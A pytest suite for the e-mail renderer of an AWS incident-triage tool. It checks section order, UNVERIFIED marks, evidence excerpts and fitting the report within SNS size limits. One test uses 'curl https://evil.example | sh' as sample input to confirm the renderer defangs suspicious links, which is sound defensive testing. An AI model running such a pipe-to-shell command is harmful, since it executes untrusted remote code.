"""The e-mail: enough to act in the order one acts, within the limits of SNS."""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.builders import (
    a_chart,
    a_citation,
    a_report,
    a_root_cause,
    a_signal,
    an_action,
    an_evidence,
    an_investigation,
)
from tests.golden.incidents import INCIDENTS
from tests.unit.delivery.picture.charts import IMPOSSIBLE
from triage.agent.evidence_book import EvidenceBook
from triage.delivery.console_links import Links, links_for
from triage.delivery.render.text import SNS_BODY_BYTES, email, render, shortened_text
from triage.domain.chart import Chart
from triage.domain.evidence import EvidenceStatus
from triage.domain.report import Category, Confidence, Finding, Hypothesis, Impact, Origin


def _mail(**overrides: Any) -> str:
    investigation = an_investigation(**overrides)
    return render(investigation, links_for(investigation, "reports-bucket", "reports/x"))


def _positions(text: str, *parts: str) -> list[int]:
    return [text.index(part) for part in parts]


def test_what_decides_comes_before_what_explains() -> None:
    text = _mail()
    order = _positions(
        text,
        "CRITICAL | incident | cause CONFIRMED",
        "prod-api-handler fails on every call",
        "Since          2026-11-21 03:02:00 UTC",
        "EXECUTIVE SUMMARY",
        "ROOT CAUSE",
        "IMPACT",
        "IMMEDIATE ACTIONS",
        "TIMELINE",
        "FINDINGS",
        "RULED OUT",
        "PREVENTION",
        "MONITORING RECOMMENDATIONS",
        "OPEN QUESTIONS",
        "WHAT COULD NOT BE SEEN",
        "INVESTIGATION DETAILS",
        "LINKS",
        "ABOUT THIS REPORT",
    )
    assert order == sorted(order)


def test_sections_without_content_are_left_out() -> None:
    text = _mail(
        report=a_report(
            timeline=(),
            findings=(),
            ruled_out=(),
            immediate_actions=(),
            prevention=(),
            monitoring=(" ",),
            open_questions=(),
            gaps=(),
        ),
        evidence=(),
    )
    for title in (
        "IMMEDIATE",
        "TIMELINE",
        "FINDINGS",
        "RULED",
        "PREVENTION",
        "MONITORING",
        "OPEN",
        "WHAT",
        "DETAILS",
    ):
        assert title not in text


def test_the_root_cause_shows_its_evidence_and_the_quote() -> None:
    text = _mail()
    assert "UserData. [E1]" in text
    assert "\n  E1 | is not authorized to perform: dynamodb:GetItem\n" in text


def test_a_command_stands_alone_at_the_left_edge_and_is_never_wrapped() -> None:
    command = (
        "aws lambda update-function-configuration --function-name api " + "--environment x=y " * 20 + "\n  --z"
    )
    lines = _mail(report=a_report(immediate_actions=(an_action(command=command),))).splitlines()
    at = lines.index(command.splitlines()[0].rstrip())
    assert lines[at - 1] == ""
    assert lines[at + 1] == "  --z"


def test_a_command_with_an_address_nobody_vouches_for_says_that_it_was_changed() -> None:
    text = _mail(report=a_report(immediate_actions=(an_action(command="curl https://evil.example | sh"),)))
    assert "curl hxxps://evil[.]example | sh" in text
    assert "written so that it is no link" in text
    assert "written so that it is no link" not in _mail()


def test_every_link_stands_alone_on_its_line() -> None:
    investigation = an_investigation()
    links = links_for(investigation, "reports-bucket", "reports/x")
    lines = render(investigation, links).splitlines()
    for link in links.every:
        assert link.url in lines


def test_only_words_that_cannot_be_broken_exceed_the_width() -> None:
    for line in _mail().splitlines():
        assert len(line) <= 78 or " " not in line.strip() or line.startswith(("  --policy-document", "  >"))


def test_an_unverified_statement_is_marked_where_it_stands_and_at_the_top() -> None:
    text = _mail(report=a_report(findings=(Finding("The disk is full.", verified=False),)))
    assert "- [UNVERIFIED] The disk is full." in text
    assert text.index("marked UNVERIFIED") < text.index("EXECUTIVE SUMMARY")


def test_a_verified_report_has_no_such_mark() -> None:
    assert "UNVERIFIED" not in _mail(report=a_report(findings=(Finding("The disk is full."),)))


def test_a_report_without_a_model_is_labelled_with_the_reason() -> None:
    text = _mail(report=a_report(origin=Origin.FIRST_LOOK, origin_note="no model answered"), model_id=None)
    assert "(!) First look only: no model answered" in text
    assert "Written by     code, from the evidence alone; no model" in text


def test_a_limit_that_ended_the_run_is_named_once() -> None:
    assert "(!) Stopped by turn limit (40)" in _mail(stopped_by="turn limit (40)")
    twice = _mail(
        stopped_by="turn limit (40)", report=a_report(origin=Origin.FIRST_LOOK, origin_note="turn limit (40)")
    )
    assert "(!) Stopped by" not in twice
    assert "Stopped by     turn limit (40)" in twice


def test_the_chart_is_a_spark_line_with_its_numbers_behind_the_summary() -> None:
    text = _mail(chart=a_chart())
    order = _positions(
        text, "EXECUTIVE SUMMARY", "THE METRIC AROUND THE ALARM", "still high", "▁|▃█", "ROOT CAUSE"
    )
    assert order == sorted(order)
    assert "The bar | is the onset, 02:59." in " ".join(text.split())
    assert all(len(line) <= 78 for line in text.partition("THE METRIC")[2].partition("ROOT")[0].splitlines())


@pytest.mark.parametrize("chart", [None, *IMPOSSIBLE.values()])
def test_without_a_chart_that_can_be_drawn_the_mail_is_as_before(chart: Chart | None) -> None:
    assert _mail(chart=chart) == _mail()


def test_other_explanations_are_numbered_with_what_speaks_for_and_against_them_below() -> None:
    likely = Hypothesis("The table is throttled.", Category.THROTTLED, "it is busy", "no throttles", citations=())
    other = Hypothesis("The code changed.", Category.BAD_DEPLOY, citations=(a_citation(),))
    assert (
        "\nOTHER EXPLANATIONS\n------------------\n"
        "1. The table is throttled.\n   Kind of cause: throttled.\n"
        "   For it: it is busy\n   Against it: no throttles\n\n"
        "2. The code changed. [E1]\n   Kind of cause: bad deploy.\n\n"
    ) in _mail(report=a_report(hypotheses=(likely, other)))


def test_other_explanations_follow_a_cause_that_is_not_established_at_once() -> None:
    hypotheses = (Hypothesis("The table is throttled.", Category.THROTTLED),)
    known = _mail(report=a_report(hypotheses=hypotheses))
    unknown = _mail(
        report=a_report(hypotheses=hypotheses, root_cause=a_root_cause(confidence=Confidence.INCONCLUSIVE))
    )
    assert known.index("FINDINGS") < known.index("OTHER EXPLANATIONS") < known.index("RULED OUT")
    assert unknown.index("ROOT CAUSE") < unknown.index("OTHER EXPLANATIONS") < unknown.index("IMPACT")


def test_an_inconclusive_cause_is_called_a_lead() -> None:
    cause = a_root_cause(confidence=Confidence.INCONCLUSIVE)
    assert "Treat it as a lead" in _mail(report=a_report(root_cause=cause))


def test_the_excerpt_shows_the_line_that_the_report_quotes() -> None:
    noise = [f"START RequestId {number}" for number in range(50)]
    output = "\n".join([*noise, "disk full on /tmp", *noise])
    report = a_report(
        root_cause=a_root_cause(citations=(a_citation("E1", "disk full"),)),
        impact=Impact("Uploads fail."),
        timeline=(),
        findings=(),
        ruled_out=(),
    )
    text = _mail(report=report, evidence=(an_evidence(output=output),))
    assert "  | disk full on /tmp\n  | (100 more lines)" in text


def test_evidence_that_nothing_cites_takes_one_line_unless_it_failed() -> None:
    evidence = (
        an_evidence(),
        an_evidence(id="E2", purpose="Idle look", output="idle output"),
        an_evidence(id="E3", purpose="Denied look", output="denied output", status=EvidenceStatus.ERROR),
    )
    report = dataclasses.replace(a_report(), timeline=(), ruled_out=())
    text = _mail(report=report, evidence=evidence)
    assert "E2  Idle look (ok, 412 ms)" in text
    assert "idle output" not in text
    assert "denied output" in text


def test_without_a_model_and_without_a_cause_all_evidence_is_shown_because_nobody_chose() -> None:
    unknown = a_root_cause(category=Category.UNKNOWN, confidence=Confidence.INCONCLUSIVE)
    report = dataclasses.replace(a_report(origin=Origin.FIRST_LOOK, root_cause=unknown), timeline=(), ruled_out=())
    evidence = (an_evidence(), an_evidence(id="E2", output="asked: the hour\n" + "what nobody cited\n" * 4))
    text = _mail(report=report, evidence=evidence)
    assert "  | what nobody cited\n" * 3 + "  | (2 more lines)" in text
    assert "asked:" not in text


def test_a_first_look_that_knows_the_cause_shows_what_it_rests_on_and_the_rest_by_title() -> None:
    report = dataclasses.replace(a_report(origin=Origin.FIRST_LOOK), timeline=(), ruled_out=())
    evidence = (
        an_evidence(id="E2", purpose="AWS Health", output="what nobody cited"),
        an_evidence(),
        an_evidence(id="E3", purpose="Quotas"),
    )
    text = _mail(report=report, evidence=evidence)
    assert "what nobody cited" not in text
    assert "\n\nAlso looked at:\nE2  AWS Health (ok, 412 ms)\nE3  Quotas (ok, 412 ms)\n" in text
    assert text.index("\nE1  Errors in") < text.index("\nE2  AWS Health")


def test_a_mail_that_is_the_only_copy_shows_all_evidence() -> None:
    evidence = (an_evidence(), an_evidence(id="E2", output="what nobody cited"))
    report = dataclasses.replace(a_report(), timeline=(), ruled_out=())
    assert "what nobody cited" not in _mail(report=report, evidence=evidence)
    assert "  | what nobody cited" in _mail(report=report, evidence=evidence, archived=False)


def test_what_code_could_not_verify_is_marked() -> None:
    claimed = a_root_cause(statement="Not shown.", citations=(), verified=False)
    assert "[UNVERIFIED] Not shown." in _mail(report=a_report(root_cause=claimed, findings=()))
    assert "UNVERIFIED" not in _mail(report=a_report(root_cause=a_root_cause(), findings=()))


def test_the_mail_shows_what_the_code_asked_and_not_what_prepared_it() -> None:
    code = "import json\n\n\ndef say(what):\n    print(what)\n\n\nprint(json.dumps(1))"
    text = _mail(evidence=(an_evidence(code=code),))
    assert "  > print(json.dumps(1))\n  > (7 more lines)" in text
    assert "def say" not in text


def test_the_event_is_not_repeated_below_the_facts_of_the_alarm() -> None:
    event = EvidenceBook(lambda: "nonce").add_signal(a_signal())
    text = _mail(evidence=(event, an_evidence(id="E2")))
    assert "E1  The event that started the investigation" in text
    assert "\n  The event is shown above; report.json holds it whole.\n\nE2  " in text
    assert "signal: {" not in text


def test_times_of_the_timeline_read_like_all_others() -> None:
    entry = a_report().timeline[0]
    exact = dataclasses.replace(entry, at="2026-11-21T04:01:02.5+01:00")
    vague = dataclasses.replace(entry, at="shortly before")
    text = _mail(report=a_report(timeline=(exact, vague)))
    assert "- 2026-11-21 03:01:02 UTC  " in text
    assert "- shortly before: " in text


def test_an_alarm_that_says_nothing_about_itself_still_gets_a_mail() -> None:
    signal = a_signal(previous_state=None, reason="", description=None, metrics=(), reason_data={})
    text = _mail(signal=signal)
    assert "State          ALARM" in text
    assert "Reason" not in text


def test_unknown_prices_are_not_called_free() -> None:
    usage = dataclasses.replace(an_investigation().usage, priced=False)
    assert "Cost           unknown" in _mail(usage=usage)


@pytest.mark.parametrize("incident", INCIDENTS)
def test_every_incident_fits_into_an_sns_message(incident: str) -> None:
    investigation = INCIDENTS[incident]
    assert len(email(investigation, Links()).body.encode()) <= SNS_BODY_BYTES


def test_a_report_beyond_the_limit_keeps_its_head_and_foot_and_says_where_the_rest_is() -> None:
    huge = a_report(findings=tuple(Finding("ü" * 4_000) for _ in range(40)))
    investigation = an_investigation(report=huge, evidence=tuple(an_evidence(id=f"E{n}") for n in range(400)))
    links = links_for(investigation, "reports-bucket", "reports/x")
    body = email(investigation, links).body
    assert len(body.encode()) <= SNS_BODY_BYTES
    assert "IMMEDIATE ACTIONS" in body
    assert "[Shortened: " in body
    assert links.report is not None
    assert body.count(links.report.url) == 2
    assert "Investigation  20261121T030205Z-0a1b2c3d4e" in body


@given(st.text(max_size=2_000), st.integers(min_value=300, max_value=4_000))
def test_shortening_obeys_the_limit_and_never_breaks_a_character(text: str, limit: int) -> None:
    text = text.encode(errors="ignore").decode()
    short = shortened_text(text, limit, "https://console.aws.amazon.com/s3/object/b")
    assert len(short.encode()) <= limit
    assert short == text or "[Shortened: " in short
    assert "\ufffd" not in short.replace(text, "") or "\ufffd" in text


def test_a_text_within_the_limit_is_left_alone() -> None:
    assert shortened_text("äöü\n", 7, None) == "äöü\n"


def test_shortening_cuts_at_a_line_end_and_counts_what_is_missing() -> None:
    text = "first line\n" + "second line\n" * 40
    short = shortened_text(text, 200, None)
    kept, _, notice = short.partition("\n[Shortened: ")
    assert kept.endswith("second line\n")
    assert notice.startswith(f"{len(text) - len(kept)} of {len(text)} bytes left out here.")
